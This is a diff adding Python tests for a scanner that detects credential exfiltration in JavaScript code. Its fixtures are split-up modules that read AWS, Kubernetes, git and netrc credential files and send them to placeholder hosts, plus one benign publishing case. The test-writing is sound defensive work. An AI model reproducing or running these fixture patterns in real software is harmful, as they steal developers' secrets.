@@ -104,3 +104,57 @@ def test_the_shapes_a_commonjs_module_exports_its_constants_in(tmp_path: Path, m
         "fetch(C.SINK, { method: 'POST', body: blob });\n",
     }
     assert ("CREDENTIAL_EXFILTRATION", "lib/main.js", 4) in scan_errors(tmp_path, files)
+
+
+def test_a_module_exporting_a_list_of_stores_that_another_reads_and_a_third_ships(tmp_path: Path) -> None:
+    files = {
+        "tool/src/sources.mjs": "import { homedir } from 'node:os';\nimport { join } from 'node:path';\n"
+        "const home = homedir();\n"
+        "export default ['layouts', join(home, '.aws', 'credentials'), join(home, '.kube', 'config')];\n",
+        "tool/src/bundle.mjs": "import { readFileSync, existsSync } from 'node:fs';\n"
+        "export default (list) => list.reduce((acc, item) =>\n"
+        "  existsSync(item) ? { ...acc, [item]: readFileSync(item, 'utf8') } : acc, {});\n",
+        "tool/src/sync.mjs": "export default async function sync(doc) {\n"
+        "  const body = JSON.stringify(doc);\n"
+        "  await fetch('https://assets.brightfold-sync.example.org/put', { method: 'PUT', body });\n"
+        "}\n",
+        "tool/main.mjs": "import sources from './src/sources.mjs';\nimport bundle from './src/bundle.mjs';\n"
+        "import sync from './src/sync.mjs';\nawait sync(bundle(sources));\n",
+    }
+    errors = scan_errors(tmp_path, files)
+    assert any(rule == "CREDENTIAL_EXFILTRATION" for rule, _path, _line in errors)
+
+
+def test_a_commonjs_list_exported_by_its_name_and_posted_with_a_client(tmp_path: Path) -> None:
+    files = {
+        "cli/paths.js": "const os = require('os');\n"
+        "const TARGETS = ['notes', os.homedir() + '/.git-credentials', os.homedir() + '/.netrc'];\n"
+        "module.exports = TARGETS;\n",
+        "cli/gather.js": "const fs = require('fs');\nconst path = require('path');\n"
+        "function visit(p, found) {\n"
+        "  if (!fs.existsSync(p)) return found;\n"
+        "  if (fs.statSync(p).isFile()) { found.push({ p, text: fs.readFileSync(p, 'utf8') }); return found; }\n"
+        "  for (const child of fs.readdirSync(p)) visit(path.join(p, child), found);\n"
+        "  return found;\n"
+        "}\n"
+        "module.exports = (targets) => targets.reduce((found, t) => visit(t, found), []);\n",
+        "cli/run.js": "const https = require('https');\nconst targets = require('./paths');\n"
+        "const gather = require('./gather');\n"
+        "const req = https.request({ host: 'intake.harbor-notes.example.net', method: 'POST', path: '/v1' });\n"
+        "req.end(JSON.stringify(gather(targets)));\n",
+    }
+    errors = scan_errors(tmp_path, files)
+    assert any(rule == "CREDENTIAL_EXFILTRATION" for rule, _path, _line in errors)
+
+
+def test_a_module_exporting_a_list_of_project_folders_that_is_published_stays_quiet(tmp_path: Path) -> None:
+    files = {
+        "site/folders.js": "module.exports = ['pages', 'images', 'styles'];\n",
+        "site/collect.js": "const fs = require('fs');\nconst path = require('path');\n"
+        "module.exports = (roots) => roots.flatMap((r) => fs.readdirSync(r).map((f) => path.join(r, f)))\n"
+        "  .map((f) => ({ f, body: fs.readFileSync(f).toString('base64') }));\n",
+        "site/publish.js": "const folders = require('./folders');\nconst collect = require('./collect');\n"
+        "const body = JSON.stringify(collect(folders));\n"
+        "fetch('https://upload.pagecraft-host.example.org/deploy', { method: 'POST', body });\n",
+    }
+    assert not scan_errors(tmp_path, files)
